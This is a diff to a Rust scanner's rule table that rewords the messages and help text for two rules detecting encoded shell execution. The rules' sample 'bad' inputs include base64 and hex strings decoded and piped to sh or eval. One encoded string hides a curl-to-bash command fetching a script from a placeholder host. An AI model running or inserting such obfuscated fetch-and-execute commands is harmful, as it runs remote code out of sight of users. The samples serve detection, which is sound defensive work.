@@ -7,8 +7,8 @@ pub(super) const RULES: &[Rule] = &[
     Rule {
         id: "encoded-execution",
         severity: Severity::High,
-        message: "encoded text is decoded and run",
-        help: "write what it does in plain text; there is no good reason to encode a command",
+        message: "decodes and runs encoded text",
+        help: "write the command in plain text",
         bad: &[
             sh("echo aGVsbG8gd29ybGQ= | base64 -d | sh\n"),
             sh("eval \"$(echo 6c73 | xxd -r -p)\"\n"),
@@ -74,8 +74,8 @@ pub(super) const RULES: &[Rule] = &[
     Rule {
         id: "encoded-payload",
         severity: Severity::High,
-        message: "encoded text hides something that another rule finds",
-        help: "decode it and judge what it says",
+        message: "encoded text contains a match of another rule",
+        help: "decode the text and review it",
         bad: &[py(
             "P = 'Y3VybCBodHRwczovL2V4YW1wbGUubmV0L2kuc2ggfCBiYXNo'\n",
         )],
